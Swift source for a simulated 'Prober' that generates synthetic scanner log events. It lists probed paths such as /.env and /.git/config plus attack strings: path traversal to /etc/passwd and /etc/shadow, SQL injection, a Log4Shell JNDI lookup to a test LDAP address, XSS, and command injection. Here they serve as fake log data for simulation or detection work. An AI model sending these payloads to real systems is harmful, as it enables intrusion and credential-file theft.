/// Someone who tries what is there: paths that no module serves, keys that are wrong, attacks.
struct Prober: Actor {
  private(set) var nextTime: Int64
  var random: Random
  let plant: Int
  let step: Int
  let licensee: UInt16
  /// Whose addresses it has.
  let people: [Int32]
  private let pause: Double
  private var remaining: Range<Int>

  /// - Parameter paths: of the probed ones, which it asks for.
  init(
    at time: Int64, milliseconds: Int64, plant: Int, step: Int, licensee: UInt16,
    people: [Int32], paths: Range<Int>, random: Random
  ) {
    self.plant = plant
    self.step = step
    self.licensee = licensee
    self.people = people
    self.random = random
    remaining = paths
    pause = Double(milliseconds) / Double(paths.count)
    nextTime = time
  }

  mutating func act(_ traffic: inout Traffic) {
    let path = remaining.lowerBound
    remaining = path + 1..<remaining.upperBound
    let gateway = traffic.gatewayTable.draw(&traffic.random)
    traffic.callCount &+= 1
    traffic.acting = Acting(plant: plant, step: step, user: -1, person: -1)
    var event = LogEvent(
      time: nextTime + traffic.skews[gateway], order: nextTime, requestHigh: 0, requestLow: 0,
      conversation: 0, question: 0, answer: 0, user: -1,
      person: people[traffic.random.below(people.count)],
      latency: Int32(1 + traffic.random.below(12)), bytesIn: Int32(traffic.random.below(60)),
      bytesOut: Int32(90 + traffic.random.below(60)), status: 404, items: 0, module: 0,
      scenario: 0, app: 0, licensee: licensee, gateway: UInt8(gateway), kind: .message,
      misuse: .none)
    event.plants = 1 << UInt64(plant)
    event.path = Int32(-1 - path)
    event.agent = .scanner
    event.status =
      switch traffic.random.below(20) {
      case 0..<13: 404
      case 13..<16: 403
      case 16..<18: 401
      default: 405
      }
    traffic.nextRequest(&event)
    _ = traffic.log(event, at: nextTime)
    traffic.stage(event, kept: 0, keptSucceeded: false, from: nextTime, answeredAt: nil)
    traffic.acting = nil
    let gap = Int64(pause * (0.5 + traffic.random.unit()))
    nextTime = remaining.isEmpty ? .max : nextTime + max(1, gap)
  }

  private static let places = [
    "/admin", "/.env", "/.git/config", "/wp-login.php", "/actuator/health", "/v1/users",
    "/v1/keys", "/v1/bots", "/v1/admin/licensees", "/v2/bots", "/internal/metrics", "/debug/vars",
    "/swagger.json", "/openapi.yaml", "/graphql", "/v1/models", "/v1/prompts", "/v1/kb/export",
    "/backup.zip", "/config.json", "/server-status", "/console", "/v1/billing", "/phpmyadmin",
  ]
  private static let attacks = [
    "/v1/bots/../../etc/passwd", "/v1/bots/..%2f..%2fetc%2fshadow", "/v1/kb?id=1'%20OR%201=1--",
    "/v1/kb?id=1' OR '1'='1", "/v1/bots?name=${jndi:ldap://198.18.0.1/a}",
    "/v1/kb?q=%3Cscript%3Ealert(1)%3C/script%3E", "/v1/kb?id=1%20UNION%20SELECT%20NULL--",
    "/v1/bots?cmd=;cat%20/etc/passwd",
  ]

  /// So many different paths, of which a share are attacks.
  static func paths(_ count: Int, attacks share: Double, random: inout Random) -> [String] {
    let attack = Chance(share)
    var counts = [0, 0]
    return (0..<count).map { _ in
      let isAttack = random.happens(attack)
      let names = isAttack ? attacks : places
      let number = counts[isAttack ? 1 : 0]
      counts[isAttack ? 1 : 0] += 1
      let name = names[number % names.count]
      guard number >= names.count else { return name }
      return name + (name.contains("?") ? "&n=" : "/") + "\(number / names.count)"
    }
  }
}
